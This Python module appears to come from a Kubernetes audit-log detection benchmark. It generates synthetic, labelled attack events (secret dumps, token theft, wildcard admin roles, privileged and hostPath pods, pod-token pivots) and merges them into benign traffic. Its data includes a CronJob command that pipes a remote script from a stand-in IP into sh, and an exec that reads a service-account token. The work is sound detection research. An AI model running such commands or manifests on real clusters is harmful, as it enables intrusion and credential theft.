"""Labelled attack campaigns for benchmarks, injected into :mod:`auditwatch.synth` benign traffic.

Each campaign is one technique from a public catalogue (Stratus Red Team's Kubernetes techniques, Atomic
Red Team T1609/T1610/T1613/T1552.007/T1053.007, peirates' secret harvest and pod pivot, and synth's own
attack story), run either by a dedicated attacker identity or with the stolen credentials of an identity
that already exists in the benign traffic (CI's service account, or a human's kubeconfig) from an outside
address. Events are full ``audit.k8s.io/v1`` Events built by synth's own emitter (stages, timestamps,
levels, decisions and authorization reasons as the benign generator writes them); every event a campaign
emits is malicious or a direct consequence of a malicious request (e.g. the ReplicaSet a controller
creates from the attacker's Deployment).

:func:`labelled_stream` merges the campaigns into ``benign_events``' stream in stageTimestamp order. A
campaign is built when the benign stream reaches its start (minus a look-ahead), so exec targets are pods
that are alive at that moment. Everything is seeded: the same arguments give the same events and labels.
"""

from __future__ import annotations

import heapq
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from typing import Any, Final

from auditwatch import synth
from auditwatch.synth import _SEC, ClusterProfile, _Actor, _attack_story, _attacker, _Emitter, _forbidden, _rbac, _ref

Event = dict[str, Any]

_LOOKAHEAD_US: Final = 120 * _SEC

#: technique id -> (catalogue, description)
TECHNIQUES: Final[dict[str, str]] = {
    "stratus.dump-secrets": "Stratus k8s.credential-access.dump-secrets: list secrets in all namespaces",
    "stratus.steal-sa-token": "Stratus steal-serviceaccount-token: SA token Secret created and read",
    "stratus.create-admin-clusterrole": "Stratus create-admin-clusterrole: SA + */* ClusterRole + binding + token",
    "stratus.client-certificate": "Stratus k8s.persistence.create-client-certificate: client-auth CSR, approve, fetch",
    "stratus.create-token": "Stratus create-token: TokenRequest for kube-system:clusterrole-aggregation-controller",
    "stratus.hostpath-volume": "Stratus k8s.privilege-escalation.hostpath-volume: pod mounting the node's / ",
    "stratus.nodes-proxy": "Stratus k8s.privilege-escalation.nodes-proxy: kubelet API through nodes/proxy",
    "stratus.privileged-pod": "Stratus k8s.privilege-escalation.privileged-pod: privileged pod",
    "atomic.T1609": "Atomic T1609 container administration command: kubectl exec (ls, id) into a pod",
    "atomic.T1610": "Atomic T1610 deploy container: Deployment with an outside image, plus controller objects",
    "atomic.T1613": "Atomic T1613 container and resource discovery: cluster-wide lists, some forbidden",
    "atomic.T1552.007": "Atomic T1552.007 container API: list and read secrets of a namespace",
    "atomic.T1053.007": "Atomic T1053.007 container orchestration job: CronJob running curl | sh",
    "peirates.secret-harvest": "peirates: can-i, list namespaces, list + get secrets namespace by namespace",
    "peirates.pod-pivot": "peirates: exec to steal a pod's SA token, then use it from outside",
    "synth.story": "auditwatch.synth attack story (can-i, exec, privileged hostPath Deployment, RBAC, anonymous)",
}

VARIANTS: Final = ("dedicated", "stolen-sa", "stolen-user")


@dataclass
class Campaign:
    id: str
    technique: str
    variant: str  # dedicated | stolen-sa | stolen-user
    start_us: int  # planned start (first request's requestReceivedTimestamp)
    actor: str = ""
    src_ip: str = ""
    end_us: int = 0  # last stageTimestamp, set once built
    audit_ids: list[str] = field(default_factory=list)

    @property
    def start(self) -> datetime:
        return datetime.fromtimestamp(self.start_us / _SEC, UTC)

    @property
    def end(self) -> datetime:
        return datetime.fromtimestamp(self.end_us / _SEC, UTC)


class _Run:
    """Helper a technique builder uses: a time cursor plus the emitter and the live cluster state."""

    def __init__(self, sim: synth._Sim, em: _Emitter, t0: int, actor: _Actor) -> None:
        self.sim, self.em, self.rng, self.t, self.actor = sim, em, em.rng, t0, actor
        self.first = True

    def req(
        self, dt_s: float, verb: str, uri: str, ref: dict[str, str] | None, *, actor: _Actor | None = None, **kw: Any
    ) -> str:
        if self.first:
            self.first = False  # the first request starts exactly at the campaign start
        else:
            self.t += int(dt_s * _SEC) + self.rng.randrange(_SEC // 2)
        return self.em.request(self.t, actor or self.actor, verb, uri, ref, **kw)

    def forbid(self, dt_s: float, verb: str, uri: str, ref: dict[str, str], what: str) -> str:
        a = self.actor
        scope = f'in the namespace "{ref["namespace"]}"' if "namespace" in ref else "at the cluster scope"
        msg = (
            f'{ref["resource"]} is forbidden: User "{a.username}" cannot {verb} resource "{ref["resource"]}" '
            f'in API group "{ref.get("apiGroup", "")}" {scope}'
        )
        return self.req(
            dt_s, verb, uri, ref, code=403, status=_forbidden(msg, {"kind": what}), decision="forbid", reason=""
        )

    def live_pod(self, avoid_ns: str = "") -> tuple[str, str, str]:
        """(namespace, pod, deployment name) of a pod alive now."""
        deps = [d for d in self.sim.deployments if d.pods and not d.rolling and d.ns != avoid_ns]
        deps = deps or [d for d in self.sim.deployments if d.pods] or self.sim.deployments
        dep = self.rng.choice(deps)
        pod = self.rng.choice(dep.pods).name if dep.pods else f"{dep.name}-{self.em.token(10)}-{self.em.token(5)}"
        return dep.ns, pod, dep.name

    def exec_verb(self) -> str:
        """kubectl >= 1.30 execs over WebSocket (a `get`), older ones over SPDY (a `create`)."""
        ua = self.actor.ua
        return "get" if ua.startswith(("kubectl/v1.30", "kubectl/v1.31", "kubectl/v1.32")) else "create"

    def namespaces(self) -> list[str]:
        return list(self.sim.p.namespaces) or ["default"]


def _pod_spec(
    image: str, *, privileged: bool = False, host_path: str | None = None, command: list[str] | None = None
) -> dict[str, Any]:
    container: dict[str, Any] = {
        "name": "main",
        "image": image,
        "command": command or ["sleep", "infinity"],
        "terminationMessagePath": "/dev/termination-log",
        "terminationMessagePolicy": "File",
        "imagePullPolicy": "IfNotPresent",
    }
    spec: dict[str, Any] = {}
    if host_path is not None:
        spec["volumes"] = [{"name": "host", "hostPath": {"path": host_path, "type": ""}}]
        container["volumeMounts"] = [{"name": "host", "mountPath": "/host"}]
    if privileged:
        container["securityContext"] = {"privileged": True}
    spec.update(
        {
            "containers": [container],
            "restartPolicy": "Always",
            "terminationGracePeriodSeconds": 30,
            "dnsPolicy": "ClusterFirst",
            "securityContext": {},
            "schedulerName": "default-scheduler",
        }
    )
    return spec


def _create_pod(r: _Run, dt: float, ns: str, name: str, spec: dict[str, Any]) -> None:
    body = {
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": {"name": name, "namespace": ns, "creationTimestamp": None, "labels": {"run": name}},
        "spec": spec,
        "status": {},
    }
    r.req(
        dt,
        "create",
        f"/api/v1/namespaces/{ns}/pods?fieldManager=kubectl-run",
        _ref("pods", ns),
        code=201,
        level="Request",
        req_obj=body,
        obj_meta=(name, None, None),
    )


def _exec(r: _Run, dt: float, ns: str, pod: str, command: list[str], container: str = "app") -> None:
    from urllib.parse import quote

    q = "&".join(f"command={quote(c, safe='')}" for c in command)
    r.req(
        dt,
        r.exec_verb(),
        f"/api/v1/namespaces/{ns}/pods/{pod}/exec?{q}&container={container}&stdin=true&stdout=true&tty=true",
        _ref("pods", ns, pod, subresource="exec"),
        code=101,
        stream=(2 + r.rng.randrange(20)) * _SEC,
    )


# --- techniques ------------------------------------------------------------------------------------


def _dump_secrets(r: _Run) -> None:
    r.req(0, "list", "/api/v1/secrets?limit=500", _ref("secrets"), latency=40_000 + r.rng.randrange(80_000))


def _steal_sa_token(r: _Run) -> None:
    ns, sa = "kube-system", "stratus-red-team-sa"
    name = f"{sa}-token-{r.em.token(5)}"
    r.req(
        0,
        "create",
        "/api/v1/namespaces/kube-system/serviceaccounts?fieldManager=kubectl-create",
        _ref("serviceaccounts", ns),
        code=201,
        level="Request",
        req_obj={
            "kind": "ServiceAccount",
            "apiVersion": "v1",
            "metadata": {"name": sa, "namespace": ns, "creationTimestamp": None},
        },
        obj_meta=(sa, None, None),
    )
    r.req(
        2,
        "create",
        f"/api/v1/namespaces/{ns}/secrets?fieldManager=kubectl-create",
        _ref("secrets", ns),
        code=201,
        obj_meta=(name, None, None),
    )
    r.req(3, "get", f"/api/v1/namespaces/{ns}/secrets/{name}", _ref("secrets", ns, name))


def _admin_clusterrole(r: _Run) -> None:
    sfx = r.em.token(5)
    sa, role = f"stratus-red-team-{sfx}", f"stratus-red-team-{sfx}"
    r.req(
        0,
        "create",
        "/api/v1/namespaces/default/serviceaccounts?fieldManager=kubectl-create",
        _ref("serviceaccounts", "default"),
        code=201,
        level="Request",
        req_obj={
            "kind": "ServiceAccount",
            "apiVersion": "v1",
            "metadata": {"name": sa, "namespace": "default", "creationTimestamp": None},
        },
        obj_meta=(sa, None, None),
    )
    cr = {
        "kind": "ClusterRole",
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": role, "creationTimestamp": None},
        "rules": [{"verbs": ["*"], "apiGroups": ["*"], "resources": ["*"]}],
    }
    r.req(
        2,
        "create",
        "/apis/rbac.authorization.k8s.io/v1/clusterroles?fieldManager=kubectl-create",
        _ref("clusterroles", group="rbac.authorization.k8s.io"),
        code=201,
        level="RequestResponse",
        req_obj=cr,
        resp_obj={**cr, "metadata": {"name": role, "uid": r.em.uuid(), "resourceVersion": r.em.rv()}},
        obj_meta=(role, None, None),
    )
    crb = {
        "kind": "ClusterRoleBinding",
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": role, "creationTimestamp": None},
        "subjects": [{"kind": "ServiceAccount", "name": sa, "namespace": "default"}],
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
    }
    r.req(
        2,
        "create",
        "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create",
        _ref("clusterrolebindings", group="rbac.authorization.k8s.io"),
        code=201,
        level="RequestResponse",
        req_obj=crb,
        resp_obj={**crb, "metadata": {"name": role, "uid": r.em.uuid(), "resourceVersion": r.em.rv()}},
        obj_meta=(role, None, None),
    )
    _token_request(r, 3, "default", sa)


def _token_request(r: _Run, dt: float, ns: str, sa: str) -> None:
    body = {
        "kind": "TokenRequest",
        "apiVersion": "authentication.k8s.io/v1",
        "metadata": {"creationTimestamp": None},
        "spec": {"audiences": None, "expirationSeconds": 31536000, "boundObjectRef": None},
        "status": {"token": "", "expirationTimestamp": None},
    }
    r.req(
        dt,
        "create",
        f"/api/v1/namespaces/{ns}/serviceaccounts/{sa}/token",
        _ref("serviceaccounts", ns, sa, subresource="token"),
        code=201,
        level="Request",
        req_obj=body,
    )


def _create_token(r: _Run) -> None:
    _token_request(r, 0, "kube-system", "clusterrole-aggregation-controller")


def _client_certificate(r: _Run) -> None:
    name = f"stratus-red-team-{r.em.token(5)}"
    grp = "certificates.k8s.io"
    csr = {
        "kind": "CertificateSigningRequest",
        "apiVersion": "certificates.k8s.io/v1",
        "metadata": {"name": name, "creationTimestamp": None},
        "spec": {
            "request": "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K",
            "signerName": "kubernetes.io/kube-apiserver-client",
            "expirationSeconds": 86400000,
            "usages": ["client auth"],
        },
        "status": {},
    }
    r.req(
        0,
        "create",
        "/apis/certificates.k8s.io/v1/certificatesigningrequests",
        _ref("certificatesigningrequests", group=grp),
        code=201,
        level="Request",
        req_obj=csr,
        obj_meta=(name, None, None),
    )
    approved = {
        **csr,
        "status": {
            "conditions": [{"type": "Approved", "status": "True", "reason": "KubectlApprove", "message": "approved"}]
        },
    }
    r.req(
        2,
        "update",
        f"/apis/certificates.k8s.io/v1/certificatesigningrequests/{name}/approval",
        _ref("certificatesigningrequests", name=name, group=grp, subresource="approval"),
        level="Request",
        req_obj=approved,
    )
    r.req(
        2,
        "get",
        f"/apis/certificates.k8s.io/v1/certificatesigningrequests/{name}",
        _ref("certificatesigningrequests", name=name, group=grp),
    )


def _hostpath(r: _Run) -> None:
    _create_pod(
        r, 0, "default", f"stratus-red-team-{r.em.token(5)}", _pod_spec("docker.io/library/alpine:3.20", host_path="/")
    )


def _privileged_pod(r: _Run) -> None:
    _create_pod(
        r,
        0,
        "default",
        f"stratus-red-team-{r.em.token(5)}",
        _pod_spec("docker.io/library/alpine:3.20", privileged=True),
    )


def _nodes_proxy(r: _Run) -> None:
    node = r.rng.choice(r.sim.nodes).name
    for i, path in enumerate(("pods", "runningpods/", "configz")):
        r.req(
            0 if i == 0 else 2,
            "get",
            f"/api/v1/nodes/{node}/proxy/{path}",
            _ref("nodes", name=node, subresource="proxy"),
            stream=200_000 + r.rng.randrange(_SEC),
        )
    # proxy is a long-running request for the apiserver: RequestReceived, ResponseStarted, ResponseComplete


def _t1609(r: _Run) -> None:
    ns, pod, _ = r.live_pod()
    _exec(r, 0, ns, pod, ["ls"])
    _exec(r, 8, ns, pod, ["id"])


def _t1610(r: _Run) -> None:
    ns = r.rng.choice(r.namespaces())
    name, rs_hash = "busybox-" + r.em.token(4), r.em.token(10)
    labels = {"app": name}
    spec = _pod_spec("docker.io/library/busybox:1.36", command=["sh", "-c", "while true; do sleep 30; done"])
    dep = {
        "kind": "Deployment",
        "apiVersion": "apps/v1",
        "metadata": {"name": name, "namespace": ns, "creationTimestamp": None, "labels": labels},
        "spec": {
            "replicas": 1,
            "selector": {"matchLabels": labels},
            "template": {"metadata": {"creationTimestamp": None, "labels": labels}, "spec": spec},
            "strategy": {},
        },
        "status": {},
    }
    r.req(
        0,
        "create",
        f"/apis/apps/v1/namespaces/{ns}/deployments?fieldManager=kubectl-create&fieldValidation=Strict",
        _ref("deployments", ns, group="apps"),
        code=201,
        level="Request",
        req_obj=dep,
        obj_meta=(name, None, None),
    )
    plabels = {**labels, "pod-template-hash": rs_hash}
    rs = {
        "kind": "ReplicaSet",
        "apiVersion": "apps/v1",
        "metadata": {"name": f"{name}-{rs_hash}", "namespace": ns, "creationTimestamp": None, "labels": plabels},
        "spec": {
            "replicas": 1,
            "selector": {"matchLabels": plabels},
            "template": {"metadata": {"creationTimestamp": None, "labels": plabels}, "spec": spec},
        },
        "status": {"replicas": 0},
    }
    r.req(
        0.01,
        "create",
        f"/apis/apps/v1/namespaces/{ns}/replicasets",
        _ref("replicasets", ns, group="apps"),
        actor=r.sim.deploy_ctrl,
        code=201,
        level="Request",
        req_obj=rs,
        obj_meta=(f"{name}-{rs_hash}", None, None),
    )
    pod = {
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": {
            "generateName": f"{name}-{rs_hash}-",
            "namespace": ns,
            "creationTimestamp": None,
            "labels": plabels,
        },
        "spec": spec,
        "status": {},
    }
    r.req(
        0.01,
        "create",
        f"/api/v1/namespaces/{ns}/pods",
        _ref("pods", ns),
        actor=r.sim.rs_ctrl,
        code=201,
        level="Request",
        req_obj=pod,
    )


def _t1613(r: _Run) -> None:
    allowed_all = r.actor.username.startswith("mallory")
    first = True
    for res, group, ver in (
        ("pods", "", "v1"),
        ("deployments", "apps", "v1"),
        ("services", "", "v1"),
        ("nodes", "", "v1"),
        ("namespaces", "", "v1"),
        ("configmaps", "", "v1"),
        ("daemonsets", "apps", "v1"),
        ("roles", "rbac.authorization.k8s.io", "v1"),
    ):
        base = f"/api/{ver}" if not group else f"/apis/{group}/{ver}"
        uri, ref = f"{base}/{res}?limit=500", _ref(res, group=group, version=ver)
        dt = 0 if first else 1.5
        first = False
        if allowed_all or res in ("pods", "deployments", "services", "namespaces"):
            r.req(dt, "list", uri, ref, latency=5_000 + r.rng.randrange(40_000))
        else:
            r.forbid(dt, "list", uri, ref, res)


def _t1552_007(r: _Run) -> None:
    ns = r.rng.choice(r.namespaces())
    r.req(0, "list", f"/api/v1/namespaces/{ns}/secrets?limit=500", _ref("secrets", ns))
    for i in range(4):
        name = r.rng.choice(("db-credentials", "api-key", "tls", "registry-pull", "oauth-client", "smtp"))
        r.req(1.5, "get", f"/api/v1/namespaces/{ns}/secrets/{name}-{i}", _ref("secrets", ns, f"{name}-{i}"))


def _t1053_007(r: _Run) -> None:
    name = "atomic-cronjob-" + r.em.token(4)
    cj = {
        "kind": "CronJob",
        "apiVersion": "batch/v1",
        "metadata": {"name": name, "namespace": "default", "creationTimestamp": None},
        "spec": {
            "schedule": "*/10 * * * *",
            "jobTemplate": {
                "metadata": {"creationTimestamp": None},
                "spec": {
                    "template": {
                        "metadata": {"creationTimestamp": None},
                        "spec": _pod_spec(
                            "docker.io/curlimages/curl:8.8.0",
                            command=["sh", "-c", "curl -s http://198.51.100.9/x.sh | sh"],
                        )
                        | {"restartPolicy": "OnFailure"},
                    }
                },
            },
        },
        "status": {},
    }
    r.req(
        0,
        "create",
        "/apis/batch/v1/namespaces/default/cronjobs?fieldManager=kubectl-create&fieldValidation=Strict",
        _ref("cronjobs", "default", group="batch"),
        code=201,
        level="Request",
        req_obj=cj,
        obj_meta=(name, None, None),
    )


def _ssrr(r: _Run, dt: float, ns: str, actor: _Actor | None = None) -> None:
    r.req(
        dt,
        "create",
        "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
        _ref("selfsubjectrulesreviews", group="authorization.k8s.io"),
        actor=actor,
        code=201,
        level="Request",
        req_obj={
            "kind": "SelfSubjectRulesReview",
            "apiVersion": "authorization.k8s.io/v1",
            "metadata": {"creationTimestamp": None},
            "spec": {"namespace": ns},
            "status": {"resourceRules": None, "nonResourceRules": None, "incomplete": False},
        },
    )


def _secret_harvest(r: _Run) -> None:
    _ssrr(r, 0, "default")
    r.req(3, "list", "/api/v1/namespaces", _ref("namespaces"))
    for ns in [*r.namespaces(), "kube-system"]:
        r.req(1, "list", f"/api/v1/namespaces/{ns}/secrets", _ref("secrets", ns))
        for i in range(2):
            name = f"{ns}-secret-{r.em.token(4)}-{i}"
            r.req(0.5, "get", f"/api/v1/namespaces/{ns}/secrets/{name}", _ref("secrets", ns, name))


def _pod_pivot(r: _Run) -> None:
    ns, pod, dep = r.live_pod()
    _exec(r, 0, ns, pod, ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"])
    # the pod's (token-bound) service account, now used from the attacker's machine
    stolen = _Actor(
        f"system:serviceaccount:{ns}:{dep}",
        ("system:serviceaccounts", f"system:serviceaccounts:{ns}", "system:authenticated"),
        r.actor.ip,
        "peirates/v1.1.24 (linux/amd64)",
        "",
        uid=r.em.uuid(),
        extra=(
            ("authentication.kubernetes.io/credential-id", f"JTI={r.em.uuid()}"),
            ("authentication.kubernetes.io/pod-name", pod),
        ),
    )
    pivot = _Run(r.sim, r.em, r.t, stolen)
    pivot.first = False
    _ssrr(pivot, 20, ns)
    pivot.req(
        3,
        "list",
        f"/api/v1/namespaces/{ns}/pods",
        _ref("pods", ns),
        reason=_rbac("RoleBinding", f"{dep}-view/{ns}", "ClusterRole", "view", "ServiceAccount", f"{dep}/{ns}"),
    )
    for target in [ns, "kube-system", "default"]:
        pivot.forbid(2, "list", f"/api/v1/namespaces/{target}/secrets", _ref("secrets", target), "secrets")
    r.t = pivot.t


BUILDERS: Final[dict[str, Callable[[_Run], None]]] = {
    "stratus.dump-secrets": _dump_secrets,
    "stratus.steal-sa-token": _steal_sa_token,
    "stratus.create-admin-clusterrole": _admin_clusterrole,
    "stratus.client-certificate": _client_certificate,
    "stratus.create-token": _create_token,
    "stratus.hostpath-volume": _hostpath,
    "stratus.nodes-proxy": _nodes_proxy,
    "stratus.privileged-pod": _privileged_pod,
    "atomic.T1609": _t1609,
    "atomic.T1610": _t1610,
    "atomic.T1613": _t1613,
    "atomic.T1552.007": _t1552_007,
    "atomic.T1053.007": _t1053_007,
    "peirates.secret-harvest": _secret_harvest,
    "peirates.pod-pivot": _pod_pivot,
    "synth.story": lambda r: None,  # special-cased in build_campaign
}


def _actor_for(sim: synth._Sim, variant: str, idx: int) -> _Actor:
    ip = f"203.0.113.{10 + idx % 200}"
    if variant == "dedicated":
        name = "mallory@contractor.example"
        return _Actor(
            name,
            ("contractors", "system:authenticated"),
            f"198.51.100.{10 + idx % 200}",
            "kubectl/v1.29.3 (linux/amd64) kubernetes/6813625",
            _rbac("ClusterRoleBinding", "contractors-admin", "ClusterRole", "cluster-admin", "Group", "contractors"),
        )
    if variant == "stolen-sa":
        a = _attacker(sim)  # CI's service account, uid and credential id of the real one
        return _Actor(a.username, a.groups, ip, a.ua, a.reason, uid=a.uid, extra=a.extra)
    # stolen-user: a human's kubeconfig, same user agent, from outside
    human = sim.humans[0][0] if sim.humans else _attacker(sim)
    return _Actor(
        human.username,
        human.groups,
        ip,
        human.ua,
        _rbac(
            "ClusterRoleBinding",
            f"admin-{human.username.split('@')[0]}",
            "ClusterRole",
            "admin",
            "User",
            human.username,
        ),
        uid=human.uid,
        extra=human.extra,
    )


def build_campaign(sim: synth._Sim, camp: Campaign, seed: int, idx: int) -> list[tuple[int, Event]]:
    """Emit ``camp``'s events (stageTimestamp µs, event) and fill its actor, end and auditIDs."""
    em = _Emitter(random.Random(f"auditwatch-campaign:{seed}:{camp.id}"))
    actor = _actor_for(sim, camp.variant, idx)
    camp.actor, camp.src_ip = actor.username, actor.ip
    out: list[tuple[int, Event]] = []
    if camp.technique == "synth.story":
        if not actor.username.startswith("system:serviceaccount:"):  # the story binds its actor as an SA
            name = "attacker" if camp.variant == "dedicated" else "deployer"
            ns = "default" if camp.variant == "dedicated" else "ci"
            actor = _Actor(
                f"system:serviceaccount:{ns}:{name}",
                ("system:serviceaccounts", f"system:serviceaccounts:{ns}", "system:authenticated"),
                actor.ip,
                actor.ua,
                actor.reason,
                uid=em.uuid(),
            )
            camp.actor = actor.username
        r = _Run(sim, em, camp.start_us, actor)
        ns, pod, _ = r.live_pod()
        for _, ev in _attack_story(em, camp.start_us, actor, (ns, pod)):
            out.append((_ts_us(ev["stageTimestamp"]), ev))
    else:
        BUILDERS[camp.technique](_Run(sim, em, camp.start_us, actor))
        while em.out:
            ts, _, ev = heapq.heappop(em.out)
            out.append((ts, ev))
    camp.audit_ids = sorted({ev["auditID"] for _, ev in out})
    camp.end_us = max(ts for ts, _ in out)
    return out


def _ts_us(text: str) -> int:
    dt = datetime.strptime(text, "%Y-%m-%dT%H:%M:%S.%f%z")
    return int(dt.timestamp()) * _SEC + dt.microsecond


def plan_campaigns(
    profile: ClusterProfile,
    *,
    eval_start_us: int,
    eval_end_us: int,
    seed: int,
    techniques: list[str] | None = None,
    variants: tuple[str, ...] = VARIANTS[:2],
    stolen_user_every: int = 2,
) -> list[Campaign]:
    """One campaign per (technique, variant), at seeded random times spread over the evaluation window.

    Variant ``stolen`` alternates between CI's service account and a human's kubeconfig (every
    ``stolen_user_every``-th technique uses the human)."""
    techs = techniques or list(TECHNIQUES)
    rng = random.Random(f"auditwatch-campaign-plan:{seed}")
    jobs: list[tuple[str, str]] = []
    for i, tech in enumerate(techs):
        for v in variants:
            if v == "stolen-sa" and stolen_user_every and i % stolen_user_every == 1 and "stolen-user" not in variants:
                v = "stolen-user"
            jobs.append((tech, v))
    rng.shuffle(jobs)
    n = len(jobs)
    slot = (eval_end_us - eval_start_us) // max(n, 1)
    out: list[Campaign] = []
    for i, (tech, v) in enumerate(jobs):
        # a random point in the slot, leaving 30 min at its end for the campaign to run
        start = eval_start_us + i * slot + rng.randrange(max(slot - 1800 * _SEC, 1))
        out.append(Campaign(f"c{i:02d}-{tech}-{v}", tech, v, start))
    return out


def labelled_stream(
    profile: ClusterProfile, *, duration_s: float, campaigns: list[Campaign], seed: int
) -> Iterator[tuple[int, Event, str | None]]:
    """Benign events with the campaigns merged in, in stageTimestamp order: (µs, event, campaign id or None).

    Campaign events past the end of the window are dropped (and removed from the campaign's labels)."""
    sim = synth._Sim(profile)
    end = sim.start + int(duration_s * _SEC)
    pending = sorted(campaigns, key=lambda c: c.start_us)
    pi = 0
    heap: list[tuple[int, int, Event, str]] = []
    seq = 0
    for ts, ev in sim.run():
        if ts >= end:
            break
        while pi < len(pending) and pending[pi].start_us - _LOOKAHEAD_US <= ts:
            camp = pending[pi]
            for ats, aev in build_campaign(sim, camp, seed, pi):
                seq += 1
                heapq.heappush(heap, (ats, seq, aev, camp.id))
            pi += 1
        while heap and heap[0][0] <= ts:
            ats, _, aev, cid = heapq.heappop(heap)
            yield ats, aev, cid
        yield ts, ev, None
    while heap and heap[0][0] < end:
        ats, _, aev, cid = heapq.heappop(heap)
        yield ats, aev, cid
    kept = {cid for _, _, _, cid in heap}
    for camp in campaigns:
        if camp.id in kept:
            gone = {aev["auditID"] for _, _, aev, cid in heap if cid == camp.id}
            camp.audit_ids = [a for a in camp.audit_ids if a not in gone]
